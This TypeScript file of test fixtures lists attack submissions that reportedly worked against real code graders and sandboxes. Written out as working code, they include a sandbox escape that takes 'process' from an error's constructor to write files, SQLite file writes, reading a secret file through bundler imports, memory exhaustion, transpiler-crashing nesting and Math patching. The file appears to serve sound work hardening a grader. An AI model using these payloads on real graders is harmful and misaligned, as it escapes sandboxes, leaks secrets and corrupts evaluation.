/** The eight that were seen to work against real graders and sandboxes. */
import type { Attack } from "./attack";
import { reach, right, rightWithout, wrong } from "./pieces";

export const seen: readonly Attack[] = [
  {
    id: "S1",
    class: "K8",
    name: "takes the outer realm from the error of a refused import",
    honest: 0,
    source: ({ folder }) => `
const out = (e) => { const p = e.constructor.constructor("return process")(); const fs = p.getBuiltinModule?.("fs") ?? p.binding("fs"); fs.writeFileSync("${folder}/import.txt", "here"); };
try { import("x").catch((e) => { try { out(e); } catch {} }); } catch (e) { try { out(e); } catch {} }
export const logSumExp = async (z) => { try { await import("y"); } catch (e) { out(e); } return 12345; };
${wrong.replace(/export const logSumExp.*/, "")}`,
  },
  {
    id: "S2",
    class: "K8",
    name: "writes a file with SQLite",
    honest: 0,
    source: ({ folder }) => `${reach}
quietly(() => { const { DatabaseSync } = need("node:sqlite") ?? need("sqlite"); new DatabaseSync("${folder}/data.sqlite").exec("create table t(x); insert into t values (1)"); });
quietly(() => { const { DatabaseSync } = need("node:sqlite"); new DatabaseSync(":memory:").exec("attach '${folder}/attached.sqlite' as a; create table a.t(x); vacuum into '${folder}/vacuum.sqlite'"); });
quietly(() => globalThis.localStorage.setItem("x", "1"));
${wrong}`,
  },
  {
    id: "S3",
    class: "K7",
    name: "takes two gigabytes in pieces that no limit of the engine counts",
    honest: 4,
    source: () => `${rightWithout("logSoftmax")}
export const logSoftmax = (z) => {
  const kept = [];
  for (let i = 0; i < 64; i++) { const b = new Float64Array(1 << 22); for (let k = 0; k < b.length; k += 512) b[k] = k; kept.push(b); }
  return kept.map((b) => b[512]);
};`,
  },
  {
    id: "S4",
    class: "K2",
    name: "has a bundler read the secret file",
    honest: 0,
    source: ({ secretFile, root }) => `
import text from "${secretFile}" with { type: "text" };
export { default as more } from "${secretFile}";
export * from "${root}/dist/src/index.js";
import wasm = require("${root}/course.json");
/// <reference path="${secretFile}" />
console.log(text, wasm);
${wrong}`,
  },
  {
    id: "S5",
    class: "K7",
    name: "nests 40 kB so deep that transpilers crash",
    honest: 0,
    source: () => `export const x = ${"(".repeat(20_000)}1${")".repeat(20_000)};\n${right}`,
  },
  {
    id: "S5",
    class: "K7",
    name: "nests blocks and templates so deep that transpilers crash",
    honest: 0,
    source: () =>
      `${"{".repeat(10_000)}${"}".repeat(10_000)}\nexport const y = ${"`${".repeat(7000)}1${"}`".repeat(7000)};\n${right}`,
  },
  {
    id: "S6",
    class: "K7",
    name: "sorts a list of four billion holes",
    honest: 4,
    source: () => `${rightWithout("logSoftmax")}
export const logSoftmax = (z) => { const a = [3, 1, 2]; a.length = 2 ** 32 - 1; a.sort(); return a; };`,
  },
  {
    id: "S6",
    class: "K7",
    name: "joins, fills and searches four billion holes",
    honest: 4,
    source: () => `${rightWithout("logSoftmax")}
export const logSoftmax = (z) => { const a = []; a.length = 2 ** 32 - 1; a.lastIndexOf(1); a.indexOf(1); a.fill(0); return a.join(); };`,
  },
  {
    id: "S7",
    class: "K7",
    name: "is right and needs 40 megabytes for it",
    honest: 8,
    innocent: true,
    source: () => `const room = Array.from({ length: 10 }, () => new Float64Array(1 << 19).fill(1));
export const used = room.length;
${right}`,
  },
  {
    id: "S8",
    class: "K5",
    name: "is right with a mathematical library that differs by 2 ulp",
    honest: 8,
    innocent: true,
    source: () => `${nudged}\n${right}`,
  },
];

/** exp, log and their kin two units in the last place beside the truth, but for the exact 0 and 1 */
export const nudged = `
{
  const view = new DataView(new ArrayBuffer(8));
  const nudge = (x, up) => {
    if (!Number.isFinite(x) || x === 0 || Number.isInteger(x)) return x;
    view.setFloat64(0, x);
    view.setBigInt64(0, view.getBigInt64(0) + (up ? 2n : -2n));
    return view.getFloat64(0);
  };
  let count = 0;
  for (const name of ["exp", "log", "log1p", "expm1", "log2", "log10", "tanh", "pow"]) {
    const exact = Math[name];
    Math[name] = (...x) => nudge(exact(...x), count++ % 2 === 0);
  }
}`;
